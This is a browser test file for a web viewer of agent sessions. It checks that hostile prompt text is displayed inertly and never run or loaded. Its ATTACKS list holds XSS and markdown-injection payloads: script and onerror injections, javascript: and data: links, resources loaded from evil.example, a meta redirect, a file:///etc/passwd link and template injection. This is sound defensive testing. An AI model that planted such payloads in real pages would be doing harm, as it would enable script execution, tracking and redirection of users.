/** Prompts are untrusted input: whatever one contains, the page only shows it. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeForest } from '../forest.ts'
import { CHROMIUM, NO_CHROMIUM, openSite, type Site, storeOf } from './browser.ts'

const ATTACKS: readonly string[] = [
  '<script>window.owned = true</script>',
  '<script src="https://evil.example/a.js"></script>',
  '<img src=x onerror="window.owned = true">',
  '<svg onload="window.owned = true"><script>window.owned = true</script></svg>',
  '<iframe src="javascript:parent.owned = true"></iframe>',
  '<iframe srcdoc="<script>parent.owned = true</script>"></iframe>',
  '<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<div style="background: url(https://evil.example/c.png); position: fixed; inset: 0">over everything</div>',
  '<a href="javascript:window.owned = true">click</a>',
  '<form action="https://evil.example/"><input name="x"><button>send</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart="window.owned = true"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.owned = true"></style></mglyph></table></mtext></math>',
  '![tracker](https://evil.example/pixel.png)',
  '![ref][pixel]\n\n[pixel]: https://evil.example/ref.png "title"',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[click](javascript:window.owned=true)',
  '[click](JaVaScRiPt&#58;window.owned=true)',
  '[click](data:text/html,<script>opener.owned=true</script>)',
  '[click](https://evil.example/link)',
  'https://evil.example/bare www.evil.example mailto:me@evil.example',
  '<https://evil.example/auto>',
  '[x](vbscript:msgbox(1)) [y](file:///etc/passwd)',
  '[^1]\n\n[^1]: <img src=x onerror="window.owned = true">',
  '- [ ] task <input autofocus onfocus="window.owned = true">',
  '| a | b |\n|:-:|---|\n| <img src=x onerror="window.owned = true"> | ![](https://evil.example/t.png) |',
  '```html\n<script>window.owned = true</script>\n```',
  '{{constructor.constructor("window.owned = true")()}}',
  '&lt;script&gt;window.owned = true&lt;/script&gt;',
  '\u202eesrever \u0000 nul \ud800 alone',
]

const LONG_NAME = 'n'.repeat(300)

const attack = ATTACKS.join('\n\n')

describe.skipIf(NO_CHROMIUM)(`hostile prompts (needs ${CHROMIUM})`, () => {
  let site: Site
  beforeAll(async () => {
    const agent = 'tester"><img src=x onerror="window.owned = true">'
    const forest = makeForest([
      { id: 'line', turns: [{ agent: 'tester', with: { promptInput: 'x'.repeat(3_000_000) } }] },
      // Older than the other session, so that the latest one is selected.
      {
        id: 'long',
        turns: [{ agent: LONG_NAME, with: { promptInput: 'مرحبا' } }],
        with: { title: ' \t' },
      },
      {
        id: 'hostile',
        turns: [
          {
            agent,
            with: {
              promptInput: attack,
              promptOutput: attack,
              error: { name: attack, message: attack },
              status: 'ERROR',
            },
            calls: [{ agent: 'tester', with: { description: attack } }],
          },
        ],
        with: { title: attack, directory: attack },
      },
    ])
    site = await openSite(await storeOf([forest]))
  })
  afterAll(() => site?.close())

  it('run nothing, load nothing and lead nowhere, formatted or raw', async () => {
    const { page, elsewhere, errors, close } = await site.visit('/')
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const prompt = page.getByRole('region', { name: 'Prompt' })
    const answer = page.getByRole('region', { name: 'Answer' })
    await prompt.locator('.markdown .address').first().waitFor()
    await answer.locator('.markdown .address').first().waitFor()
    const elements = () =>
      page
        .locator(
          '.detail :is(a[href], img, script, style, iframe, object, embed, form, video, audio, link, base, meta, math, [style], [onerror], [onload], [onfocus])',
        )
        .evaluateAll((found) => found.map((element) => element.outerHTML))
    await expect.poll(() => page.getByRole('link', { name: 'Show this query' }).count()).toBeGreaterThan(0)
    // The only links are the page's own; the only inline styles are the agents' hues.
    const own = [
      /\/graphql\?query=/,
      /^<a href="\?session=ses_hostile&amp;trace=prt_hostile_2" class="link">/,
      /^<span class="agent" style="--hue: [\d.]+;">/,
    ]
    const foreign = async () => (await elements()).filter((html) => !own.some((start) => start.test(html)))
    expect(await foreign()).toEqual([])
    // Images and links are shown as text, with their URLs.
    await expect.poll(() => prompt.textContent()).toContain('https://evil.example/pixel.png')
    for (const part of await page.locator('.markdown .address').all()) await part.click({ force: true })
    await prompt.getByText('Raw').click()
    await answer.getByText('Raw').click()
    await expect.poll(() => prompt.locator('pre.raw').textContent()).toContain('<script>window.owned = true</script>')
    expect(await foreign()).toEqual([])
    expect(await page.evaluate('window.owned')).toBeUndefined()
    expect([elsewhere, errors, dialogs]).toEqual([[], [], []])
    expect(new URL(page.url()).origin).toBe(site.url)
    await close()
  })

  it('begin where their script does, formatted or raw, and are shown however long a line is', async () => {
    const { page, close } = await site.visit('/?session=ses_long')
    const prompt = page.getByRole('region', { name: 'Prompt' })
    /** Distances of an element's first line from its left and right edges, in CSS pixels. */
    const besides = (selector: string) =>
      prompt
        .locator(selector)
        .first()
        .evaluate((element) => {
          const line = document.createRange()
          line.setStart(element.firstChild ?? element, 0)
          line.setEnd(element.firstChild ?? element, 5)
          const [text, box] = [line.getBoundingClientRect(), element.getBoundingClientRect()]
          return { left: text.left - box.left, right: box.right - text.right }
        })
    const arabic = await besides('.markdown p')
    expect(arabic.left).toBeGreaterThan(arabic.right)
    await prompt.getByText('Raw').click()
    const raw = await besides('pre.raw')
    expect(raw.left).toBeGreaterThan(raw.right)
    await page.goto(`${site.url}/?session=ses_line`)
    const line = await besides('pre.raw')
    expect(line.left).toBeLessThanOrEqual(line.right)
    await close()
  })

  it('keep an agent within its place, however long it is called, and name what has no title', async () => {
    const { page, close } = await site.visit(`/?session=ses_long`)
    const beyond = (selector: string) =>
      page
        .locator(selector)
        .evaluateAll((all) => all.filter(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth).length)
    await page.getByRole('heading', { name: LONG_NAME }).waitFor()
    expect(await beyond('.detail, .detail-head')).toBe(0)
    await page.getByRole('heading', { name: 'Untitled' }).waitFor()
    await page.goto(`${site.url}/?view=metrics`)
    await page.getByRole('region', { name: 'By agent' }).getByText(LONG_NAME).waitFor()
    expect(await beyond('.metrics-card')).toBe(0)
    await close()
  })
})
